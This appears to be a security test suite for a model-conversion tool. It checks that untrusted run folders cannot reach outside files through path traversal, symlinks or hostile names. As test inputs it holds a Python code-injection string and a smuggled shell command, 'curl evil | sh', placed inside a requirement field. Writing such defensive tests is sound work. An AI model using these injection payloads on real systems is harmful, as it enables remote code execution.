"""Reading an untrusted run folder never leaves the folder."""

import ast
import json
import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from qconvert.backends import cpu
from qconvert.core import cache
from qconvert.core.errors import QConvertError, UsageError
from qconvert.core.tensors import TensorSpec
from qconvert.package.bundle import make_bundle
from qconvert.package.pack import write_package
from qconvert.package.run_script import run_script
from qconvert.report import json_file
from qconvert.run import targets
from qconvert.run.report_files import report_images
from qconvert.run.run_folder import RunFolder
from qconvert.run.targets import load_run, resolve
from qconvert.tasks.heads import Head
from tests.conftest import Outcome

# These tests read the shared run, which takes seconds to build.
pytestmark = pytest.mark.slow

ENGINE = Path("run/engines/cpu-int8")
HOSTILE = '"]); raise SystemExit("ran") #'


def change_engine_json(**changed: Any) -> None:
    record = json.loads((ENGINE / "engine.json").read_text())
    (ENGINE / "engine.json").write_text(json.dumps({**record, **changed}))


def pack(form: Any, name: str = "") -> None:
    write_package(load_run(Path("run")), form, Path("out"), "cpu-int8", name)


@pytest.mark.parametrize(
    ("changed", "message"),
    [
        ({"files": []}, "lists no files"),
        ({"files": ["../../run.toml"]}, "is not a file in it"),
        ({"files": ["/etc/hostname"]}, "is not a file in it"),
        ({"files": ["..", "."]}, "is not a file in it"),
        ({"files": ["gone.onnx"]}, "is not a file in it"),
        ({"graph": "../cpu-fp32/model.onnx"}, "is not a file in it"),
        ({"files": "model.onnx"}, "files: "),
        ({"files": [3]}, "files"),
        ({"made_with": {"runtime": 3}}, "made_with"),
        ({"threads": "many"}, "threads"),
        ({"backend": "os"}, "no backend `os`"),
        ({"precision": "int9"}, "precision"),
        ({"build_seconds": "long"}, "holds no engine"),
    ],
)
def test_engine_with_files_outside_its_folder_is_rejected(
    changed: dict[str, Any], message: str, world: Path
) -> None:
    change_engine_json(**changed)
    with pytest.raises(QConvertError, match="holds no engine") as caught:
        targets.read_engine(ENGINE)
    assert message in str(caught.value)
    for place in (Path("run"), ENGINE):
        with pytest.raises(QConvertError, match="holds no engine"):
            resolve([place])


@pytest.mark.parametrize("form", ["onnxruntime", "triton"])
def test_package_of_an_engine_with_outside_files_is_rejected(form: Any, world: Path) -> None:
    Path("secret").write_text("secret")
    change_engine_json(files=["../../../secret"], graph="../../../secret")
    with pytest.raises(QConvertError, match="is not a file in it"):
        pack(form)
    assert not Path("out").exists()


def test_package_name_that_leaves_the_folder_is_rejected(world: Path) -> None:
    for name in ("..", "../x", "/x", "a/b", ".", "a\nb", "a;b"):
        with pytest.raises(UsageError, match="is not a valid name for a folder"):
            pack("triton", name)
    assert not Path("out").exists()


def test_hostile_names_do_not_become_code_of_the_package(world: Path) -> None:
    bundle = make_bundle(load_run(Path("run")), "cpu-int8")
    (ENGINE / HOSTILE).write_bytes(b"")
    bundle = replace(
        bundle,
        engine=replace(bundle.engine, files=(HOSTILE,)),
        outputs=(TensorSpec(HOSTILE, np.dtype("float32"), ("N", 24)),),
    )
    program = run_script(bundle, cpu.load_spec(bundle.engine))
    nodes = list(ast.walk(ast.parse(program)))
    assert HOSTILE in {node.value for node in nodes if isinstance(node, ast.Constant)}
    assert not any(isinstance(node, ast.Raise) for node in nodes)


@pytest.mark.parametrize("layout", ["box_scores", "class_numbers"])
def test_hostile_head_does_not_become_code_of_the_package(layout: str, world: Path) -> None:
    bundle = make_bundle(load_run(Path("run")), "cpu-int8")
    texts = ("boxes", "activation", "background")
    options: dict[str, Any] = dict.fromkeys(texts, HOSTILE) | {"normalized": True}
    head = Head(HOSTILE, layout, (HOSTILE, HOSTILE), HOSTILE, options, iou=0.5)
    if layout == "class_numbers":
        head = replace(head, options={})
    program = run_script(replace(bundle, head=head), cpu.load_spec(bundle.engine))
    nodes = list(ast.walk(ast.parse(program)))
    assert HOSTILE in {node.value for node in nodes if isinstance(node, ast.Constant)}
    assert not any(isinstance(node, ast.Raise) for node in nodes)
    with pytest.raises(QConvertError, match="cannot be read by"):
        run_script(
            replace(bundle, head=replace(head, layout=HOSTILE)), cpu.load_spec(bundle.engine)
        )


def test_hostile_requirement_of_an_engine_is_rejected(world: Path) -> None:
    change_engine_json(made_with={"runtime": 'x"; curl evil | sh #'})
    with pytest.raises(UsageError, match="not a package name with a version"):
        pack("onnxruntime")
    assert not Path("out").exists()


@pytest.mark.parametrize("folder", ["engines", "calibration", "analysis", "engines/cpu-int8"])
def test_run_with_folders_linked_to_elsewhere_is_rejected(
    folder: str, world: Path, qconvert: Callable[..., Outcome]
) -> None:
    place = Path("run") / folder
    Path("elsewhere").mkdir()
    place.rename("elsewhere/moved")
    place.symlink_to(Path("elsewhere/moved").absolute())
    before = sorted(os.fspath(path) for path in Path("elsewhere").rglob("*"))
    for command in ("bench run", "build --from run", "evaluate run --eval val"):
        outcome = qconvert(*command.split())
        assert outcome.code == 2
        assert "is a link to a place outside the run" in outcome.err
    assert sorted(os.fspath(path) for path in Path("elsewhere").rglob("*")) == before


def test_link_to_a_run_is_accepted(world: Path) -> None:
    Path("latest").symlink_to("run")
    assert RunFolder(Path("latest")).settings().model is not None


@pytest.mark.parametrize("name", ["../secret.png", "/etc/hostname", "link.png"])
def test_report_images_outside_the_run_are_not_shown(name: str, world: Path) -> None:
    Path("secret.png").write_bytes(b"secret")
    Path("run/link.png").symlink_to(Path("secret.png").absolute())
    Path("run/own.png").write_bytes(b"own")
    record = json.loads(Path("run/report.json").read_text())
    record["evidence"]["feature_maps"] = []
    images = [{"image": "a", "picture": name}, {"image": "b", "picture": "own.png"}]
    record["evidence"]["thumbnails"] = images
    Path("run/report.json").write_text(json.dumps(record))
    report = json_file.load(Path("run/report.json"))
    assert report_images(report, Path("run")) == {"own.png": b"own"}


def test_untrusted_engine_is_crash_checked_once(world: Path) -> None:
    resolve([ENGINE])
    steps = [entry.step for entry in cache.open_default().entries()]
    assert "rehearse" in steps
    resolve([ENGINE])
    assert [entry.step for entry in cache.open_default().entries()] == steps
